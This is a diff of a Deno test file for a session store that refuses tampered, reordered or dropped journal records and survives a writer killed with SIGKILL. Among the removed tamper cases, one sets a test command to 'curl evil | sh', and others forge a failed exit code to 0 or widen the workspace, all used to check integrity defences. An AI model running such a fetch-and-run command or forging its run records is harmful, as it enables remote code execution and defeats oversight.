@@ -11,11 +11,15 @@ import { saveSnapshot, SessionStore } from "../../lib/persist/session_store.ts";
 import { runStateOf, verifySession } from "../../lib/persist/session_verify.ts";
 import { listSessions } from "../../lib/persist/session_summary.ts";
 import {
+  assertKeptSteps,
+  CHANGED_RECORDS,
   createSession,
   exists,
+  killWriterAfter,
   type Layout,
   openSession,
   reload,
+  REORDERED_RECORDS,
   rewriteJournal,
   savedSample,
   snapshotOf,
@@ -68,24 +72,7 @@ async function refused(layout: Layout, check: (e: unknown) => boolean) {
 }
 
 Deno.test("a record changed without the key is refused as session_tampered, naming it", async (t) => {
-  const cases: [string, number, (r: Json[]) => void][] = [
-    ["a failed test record rewritten to exit_code 0", 2, (r) => {
-      r[2]!.records[0].report.exit_code = 0;
-    }],
-    ["a changed test command", 0, (r) => {
-      r[0]!.test.command = ["sh", "-c", "curl evil | sh"];
-    }],
-    ["a widened workspace", 0, (r) => {
-      r[0]!.workspace = "/";
-    }],
-    ["a raised step budget", 0, (r) => {
-      r[0]!.max_steps = 1_000;
-    }],
-    ["counters rolled back", 3, (r) => {
-      r[3]!.counters.model_calls = 0;
-    }],
-  ];
-  for (const [what, bad, edit] of cases) {
+  for (const [what, bad, edit] of CHANGED_RECORDS) {
     await t.step(what, async () => {
       await using layout = await rewritten(edit);
       await refused(
@@ -133,17 +120,9 @@ Deno.test("a record changed without the key is refused as session_tampered, nami
 });
 
 Deno.test("reordered, dropped and duplicated records are refused", async (t) => {
-  const cases: [string, number, (r: Json[]) => unknown[]][] = [
-    ["two records swapped", 1, (r) => [r[0], r[2], r[1], r[3]]],
-    ["a record dropped", 2, (r) => [r[0], r[1], r[3]]],
-    ["a record duplicated", 2, (r) => [r[0], r[1], r[1], r[2], r[3]]],
-    ["the header dropped", 0, (r) => [r[1], r[2], r[3]]],
-  ];
-  for (const [what, bad, edit] of cases) {
+  for (const [what, bad, edit] of REORDERED_RECORDS) {
     await t.step(what, async () => {
-      await using layout = await rewritten((records) =>
-        edit(records) as Json[]
-      );
+      await using layout = await rewritten(edit);
       await refused(
         layout,
         isError("session_tampered", new RegExp(`record ${bad} `), bad + 1),
@@ -243,50 +222,17 @@ Deno.test("a writer killed with SIGKILL at any point loses no acknowledged step"
   for (const acks of [1, 7, 23]) {
     await t.step(`killed after ${acks} acknowledged steps`, async () => {
       await using layout = await tempLayout();
-      const child = new Deno.Command(Deno.execPath(), {
-        args: [
-          "run",
-          "--allow-read",
-          "--allow-write",
-          "--allow-run",
-          "--allow-env",
-          new URL("./_kill_writer.ts", import.meta.url).pathname,
-          layout.root,
-          layout.workspace,
-          layout.keyFile,
-        ],
-        stdin: "null",
-        stdout: "piped",
-        stderr: "inherit",
-      }).spawn();
-      let acked = 0;
-      let text = "";
-      const reader = child.stdout.pipeThrough(new TextDecoderStream())
-        .getReader();
-      while (acked < acks) {
-        const { value, done } = await reader.read();
-        if (done) break;
-        text += value;
-        acked = text.split("\n").filter((l) => l.startsWith("acked")).length;
-      }
       // Somewhere inside a later step: a result write, the append or the flush.
-      await new Promise((resolve) => setTimeout(resolve, acks % 5));
-      child.kill("SIGKILL");
-      assert.equal((await child.status).signal, "SIGKILL");
-      await reader.cancel();
+      const acked = await killWriterAfter(acks, acks % 5, [
+        layout.root,
+        layout.workspace,
+        layout.keyFile,
+      ]);
       const store = await openSession(layout);
       assert.match(store.tookOverLock ?? "", /no longer exists/);
       const loaded = await store.load();
       await store.close();
-      assert.ok(
-        loaded.state.steps >= acked,
-        `${loaded.state.steps} < ${acked}`,
-      );
-      assert.deepEqual(
-        runStateOf(loaded).records.map((r) => r.sequence),
-        Array.from({ length: loaded.state.steps }, (_, i) => i + 1),
-      );
-      assert.equal(loaded.results.length, loaded.state.steps);
+      assertKeptSteps(loaded, acked);
     });
   }
 });
